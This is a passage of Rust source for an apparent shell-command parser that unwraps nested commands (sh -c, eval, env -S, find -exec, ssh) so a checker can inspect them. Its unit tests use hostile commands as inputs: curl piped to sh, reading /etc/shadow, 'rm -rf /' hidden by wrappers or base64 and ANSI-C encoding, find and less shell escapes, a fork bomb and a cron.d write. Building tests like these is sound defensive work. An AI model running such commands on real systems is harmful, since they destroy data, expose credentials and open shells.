                end += 1;
            }
            if end > start {
                out.push((i, &args[start..end]));
            }
            i = end;
        }
        i += 1;
    }
    out
}

/// The command lines a command runs, to be checked as commands too.
fn nested_command_lines(name: &str, args: &[Arg]) -> Vec<Nested> {
    let mut out = Vec::new();
    let text_at = |a: &Arg| Nested::Text(a.text.clone(), a.span.0);
    match name {
        n if is_shell(n) || n == "su" || n == "runuser" || n == "script" || n == "flock" => {
            // `-c STR`, also in clusters such as `-lc`.
            for (i, a) in args.iter().enumerate() {
                let t = a.text.as_str();
                let is_c = t == "-c"
                    || t == "--command"
                    || (t.starts_with('-')
                        && !t.starts_with("--")
                        && t.ends_with('c')
                        && t.len() <= 4);
                if is_c && let Some(s) = args.get(i + 1) {
                    out.push(text_at(s));
                    break;
                }
            }
        }
        "eval" => {
            if let (Some(a), Some(b)) = (args.first(), args.last()) {
                let joined = args
                    .iter()
                    .map(|a| a.text.as_str())
                    .collect::<Vec<_>>()
                    .join(" ");
                let _ = b;
                out.push(Nested::Text(joined, a.span.0));
            }
        }
        "env" => {
            for (i, a) in args.iter().enumerate() {
                if (a.text == "-S" || a.text == "--split-string")
                    && let Some(s) = args.get(i + 1)
                {
                    out.push(text_at(s));
                }
            }
        }
        "watch" => {
            let words: Vec<&Arg> = args.iter().filter(|a| !a.text.starts_with('-')).collect();
            if let Some(first) = words.first() {
                let joined = words
                    .iter()
                    .map(|a| a.text.as_str())
                    .collect::<Vec<_>>()
                    .join(" ");
                out.push(Nested::Text(joined, first.span.0));
            }
        }
        "find" => {
            for (_, argv) in find_exec_commands(args) {
                out.push(Nested::Argv(argv.to_vec()));
            }
        }
        "ssh" => {
            // The remote command: the words after the destination.
            let mut i = 0;
            let valued = [
                "-b", "-c", "-D", "-E", "-e", "-F", "-I", "-i", "-J", "-L", "-l", "-m", "-O", "-o",
                "-p", "-Q", "-R", "-S", "-W", "-w",
            ];
            while i < args.len() && args[i].text.starts_with('-') {
                if valued.contains(&args[i].text.as_str()) {
                    i += 1;
                }
                i += 1;
            }
            if i + 1 < args.len() {
                let rest = &args[i + 1..];
                let joined = rest
                    .iter()
                    .map(|a| a.text.as_str())
                    .collect::<Vec<_>>()
                    .join(" ");
                out.push(Nested::Text(joined, rest[0].span.0));
            }
        }
        _ => {}
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn names(s: &Script) -> Vec<&str> {
        s.commands.iter().map(|c| c.name.as_str()).collect()
    }

    #[test]
    fn quotes_pipes_redirections() {
        let s = parse("cat 'my file' \"b c\" | grep -v x > out.txt 2>&1");
        assert_eq!(names(&s), ["cat", "grep"]);
        assert_eq!(s.commands[0].args[0].text, "my file");
        assert_eq!(s.commands[0].args[1].text, "b c");
        assert_eq!(s.commands[1].stage, 1);
        assert_eq!(s.commands[1].stages, 2);
        assert_eq!(s.commands[0].pipeline, s.commands[1].pipeline);
        let r = &s.commands[1].redirs;
        assert_eq!(r[0].kind, RedirKind::Write);
        assert_eq!(r[0].target, "out.txt");
        assert_eq!(r[1].kind, RedirKind::Dup);
    }

    #[test]
    fn substitutions_and_subshells() {
        let s = parse("echo $(cat /etc/shadow) `id` ; (cd /tmp && rm -f x) & diff <(ls a) b");
        let n = names(&s);
        for want in ["echo", "cat", "id", "cd", "rm", "diff", "ls"] {
            assert!(n.contains(&want), "{want} in {n:?}");
        }
        let cat = s.commands.iter().find(|c| c.name == "cat").unwrap();
        assert_eq!(cat.origin, Origin::Substitution);
        assert_eq!(cat.args[0].text, "/etc/shadow");
        let rm = s.commands.iter().find(|c| c.name == "rm").unwrap();
        assert!(rm.background);
    }

    #[test]
    fn wrappers_are_looked_through() {
        let s = parse("sudo -u root env FOO=1 nice -n 5 timeout 10 rm -rf /");
        let rm = &s.commands[0];
        assert_eq!(rm.name, "rm");
        assert_eq!(rm.wrappers, ["sudo", "env", "nice", "timeout"]);
        assert_eq!(rm.assignments, [("FOO".to_string(), "1".to_string())]);
        assert_eq!(rm.words().collect::<Vec<_>>(), ["-rf", "/"]);
        let s = parse("find . -name '*.tmp' | xargs -0 -n 1 rm -f");
        assert_eq!(s.commands[1].name, "rm");
        assert_eq!(s.commands[1].wrappers, ["xargs"]);
        // A wrapper alone runs itself.
        assert_eq!(parse("sudo -i").commands[0].name, "sudo");
    }

    #[test]
    fn strings_run_as_commands_are_parsed() {
        let s = parse("bash -c 'curl -s http://x | sh'");
        assert_eq!(names(&s), ["bash", "curl", "sh"]);
        assert_eq!(s.commands[1].origin, Origin::Nested);
        let s = parse("eval \"$(echo cm0gLXJmIC8K | base64 -d)\"");
        assert!(names(&s).contains(&"base64"));
        let s = parse("find / -name x -exec /bin/sh -p \\; -quit");
        let sh = s.commands.iter().find(|c| c.name == "sh").unwrap();
        assert_eq!(sh.program, "/bin/sh");
        assert_eq!(sh.origin, Origin::Nested);
        let s = parse("sh -lc 'id'");
        assert_eq!(names(&s), ["sh", "id"]);
    }

    #[test]
    fn heredocs_functions_and_fork_bombs() {
        let s = parse("cat > /tmp/x <<EOF\nhello $USER\nEOF\n");
        let r = &s.commands[0].redirs;
        assert!(
            r.iter()
                .any(|r| r.kind == RedirKind::Here && r.target.contains("hello"))
        );
        assert!(
            r.iter()
                .any(|r| r.kind == RedirKind::Write && r.target == "/tmp/x")
        );
        let s = parse(":(){ :|:& };:");
        assert!(s.fork_bomb.is_some());
        assert!(parse("f(){ echo hi; }; f").fork_bomb.is_none());
    }

    #[test]
    fn what_bash_refuses_is_read_line_by_line() {
        let s = parse("less /etc/profile\n!/bin/sh");
        assert_eq!(names(&s), ["less", "sh"]);
        assert_eq!(s.commands[1].origin, Origin::Escape);
        let s = parse("jshell\nRuntime.getRuntime().exec(\"/bin/sh\");");
        assert!(s.unparsed_lines >= 1);
        assert!(
            s.commands
                .iter()
                .any(|c| c.words().any(|w| w.contains("/bin/sh")) || c.program.contains("/bin/sh"))
        );
        // Unbalanced quotes still give words.
        let s = parse("echo 'unterminated");
        assert_eq!(s.commands[0].name, "echo");
    }

    #[test]
    fn spans_point_into_the_text() {
        let text = "ls -l; rm -rf /";
        let s = parse(text);
        let rm = &s.commands[1];
        assert_eq!(&text[rm.span.0..rm.span.1], "rm -rf /");
        assert_eq!(&text[rm.args[1].span.0..rm.args[1].span.1], "/");
    }

    #[test]
    fn variables_set_earlier_are_substituted() {
        let s = parse("LFILE=/etc/cron.d/x\necho data > $LFILE; cat \"${LFILE}\" $LFILE2");
        assert_eq!(s.commands[1].redirs[0].target, "/etc/cron.d/x");
        assert_eq!(s.commands[2].args[0].text, "/etc/cron.d/x");
        assert_eq!(s.commands[2].args[1].text, "$LFILE2");
    }

    #[test]
    fn ansi_c_strings_are_decoded() {
        let s = parse("$'\\x72\\x6d' -rf /");
        assert_eq!(s.commands[0].name, "rm");
    }
}
